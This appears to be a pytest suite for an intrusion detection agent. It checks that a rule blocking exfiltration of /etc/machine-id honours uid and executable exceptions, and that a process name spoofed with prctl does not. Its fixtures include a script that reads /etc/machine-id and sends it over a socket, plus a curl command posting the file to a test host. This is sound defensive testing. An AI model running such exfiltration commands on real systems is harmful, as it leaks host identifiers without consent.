# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Process exceptions a process cannot grant itself: by uid and by executable file, ending at exec;
a name (comm) taken with prctl opens nothing."""
import os
import subprocess

from idslib import PYTHON, Agent, expect, expect_eq

POLICY = """version: 1
identifiers:
  - name: machine-id
    files: [/etc/machine-id]
rules:
  - name: stop-machine-id
    identifiers: [machine-id]
    processes:
      except: [%s]
    destinations:
      except: [127.0.0.0/8, "::1/128", unix]
    window: 10m
    action: %s
"""

# Reads the machine-id as uid argv[2] (codecs loaded first: pyenv is not readable by that uid),
# names itself argv[3], then sends it to the test host; prints "sent" or the error.
SENDER = """
import ctypes, encodings.idna, os, socket, sys
os.setresgid(int(sys.argv[2]), int(sys.argv[2]), int(sys.argv[2]))
os.setresuid(int(sys.argv[2]), int(sys.argv[2]), int(sys.argv[2]))
ctypes.CDLL(None).prctl(15, sys.argv[3].encode(), 0, 0, 0)
value = open("/etc/machine-id").read().strip()
try:
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(("id=" + value).encode())
    print("sent")
except OSError as e:
    print(e.strerror)
"""


def send_as(host, uid, name):
    p = subprocess.run([PYTHON, "-c", SENDER, host.addr, str(uid), name], capture_output=True,
                       text=True, timeout=20)
    return p.stdout.strip()


def test_uid_exception_holds_and_a_spoofed_name_does_not(host):
    # machine-id must be readable by the test uids
    expect(os.stat("/etc/machine-id").st_mode & 0o004, "/etc/machine-id readable by all")
    with Agent(policy_text=POLICY % ("{uid: 4242}", "block")) as agent:
        excepted = send_as(host, 4242, "agent")
        # another uid calling itself what the excepted one is called gains nothing
        spoofed = send_as(host, 4243, "agent")
        a = agent.wait_alert(process__uid=4243)
        expect_eq([], agent.alerts(process__uid=4242), "alerts for the excepted uid")
    expect_eq("sent", excepted, "the excepted uid's send")
    expect_eq("Operation not permitted", spoofed, "the other uid's connect")
    expect_eq("blocked", a["action"], "action")


def test_exe_exception_ends_at_exec(host):
    # python is excepted by its file; it reads the identifier, then execs curl, which is not
    exe = os.path.realpath(PYTHON)
    code = ("import os, sys; open('/etc/machine-id').read(); "
            "os.execvp('curl', ['curl', '-s', '-o', '/dev/null', '--max-time', '5', "
            "'--data-binary', '@/etc/machine-id', 'http://%s:8080/' % sys.argv[1]])")
    with Agent(policy_text=POLICY % (exe, "block")) as agent:
        p = subprocess.run([PYTHON, "-c", code, host.addr], capture_output=True, timeout=20)
        a = agent.wait_alert(process__comm="curl")
    expect(p.returncode != 0, "curl (exec'd by an excepted python) to be refused, it exited %d"
           % p.returncode)
    expect_eq("blocked", a["action"], "action")
